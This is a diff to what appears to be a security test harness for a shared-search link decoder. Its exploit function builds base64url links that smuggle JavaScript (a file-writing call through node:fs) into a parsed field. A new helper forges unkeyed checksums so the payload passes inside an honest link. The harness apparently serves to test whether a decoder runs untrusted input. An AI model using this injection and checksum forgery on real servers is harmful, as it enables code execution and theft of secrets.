@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict'
+import { createHash } from 'node:crypto'
 import { existsSync } from 'node:fs'
 import type { Breach, Vary } from '#proof/vary'
 import type { Search } from './shared-search.ts'
@@ -33,8 +34,27 @@ export async function works({ encodeSearch, openSharedSearch, LinkError }: Code,
   await assert.rejects(openSharedSearch('A'.repeat(2001), index, log), LinkError, 'A link of 2001 characters should be refused.')
 }
 
+/** The frame of an honest link around other code. Checksums without a key, also the first part of one, can be computed by everybody. */
+function wrap(link: string, code: string): string {
+  const raw = Buffer.from(link, 'base64url').toString('latin1')
+  const [begin, end] = [raw.indexOf('{"'), raw.lastIndexOf('}') + 1]
+  if (begin < 0 || end <= begin) return code
+  const honest = raw.slice(begin, end)
+  let [before, after] = [raw.slice(0, begin), raw.slice(end)]
+  for (const name of ['md5', 'sha1', 'sha256', 'sha512'])
+    for (const form of ['hex', 'base64', 'base64url', 'latin1'] as const) {
+      const [old, own] = [honest, code].map((text) => createHash(name).update(text, 'latin1').digest().toString(form)) as [string, string]
+      let length = old.length
+      while (length > 5 && !before.includes(old.slice(0, length)) && !after.includes(old.slice(0, length))) length--
+      if (length < 6) continue
+      const replace = (text: string) => text.split(old.slice(0, length)).join(own.slice(0, length))
+      ;[before, after] = [replace(before), replace(after)]
+    }
+  return before + code + after
+}
+
 /** Links that write a file on the server. */
-export async function exploit({ openSharedSearch }: Code, vary: Vary): Promise<Breach | false> {
+export async function exploit({ encodeSearch, openSharedSearch }: Code, vary: Vary): Promise<Breach | false> {
   const file = `${vary.word()}.txt`
   const write = `getBuiltinModule('node:fs').writeFileSync('${file}', '')`
   const cut = vary.number(1, 10)
@@ -47,10 +67,19 @@ export async function exploit({ openSharedSearch }: Code, vary: Vary): Promise<B
   ]
   for (const attempt of vary.shuffle(attempts)) {
     const search = `{"text":"${vary.word()}","since":new Date(${vary.number(1, 9e11)}),"skills":new Set(),"pageSize":${attempt}}`
-    const link = Buffer.from(search).toString('base64url')
-    await openSharedSearch(link, createIndex(vary), log).catch(() => {})
-    if (existsSync(file))
-      return { sent: `/jobs?s=${link}, which is base64url of\n${search}`, got: `the file ${file} on the server`, damage: 'Reading the link ran the code in it. Such code can read the passwords in the environment just as well.' }
+    const shared = { text: vary.word(), since: new Date(vary.number(1, 9e11)), skills: new Set([vary.word()]), pageSize: vary.number(1, 90) }
+    let wrapped = search
+    try {
+      wrapped = wrap(encodeSearch(shared), search)
+    } catch {
+      // Code that makes no links has no frame.
+    }
+    for (const text of new Set([search, wrapped])) {
+      const link = Buffer.from(text, 'latin1').toString('base64url')
+      await openSharedSearch(link, createIndex(vary), log).catch(() => {})
+      if (!existsSync(file)) continue
+      return { sent: `/jobs?s=${link}, which is base64url of\n${text}`, got: `the file ${file} on the server`, damage: 'Reading the link ran the code in it. Such code can read the passwords in the environment just as well.' }
+    }
   }
   return false
 }
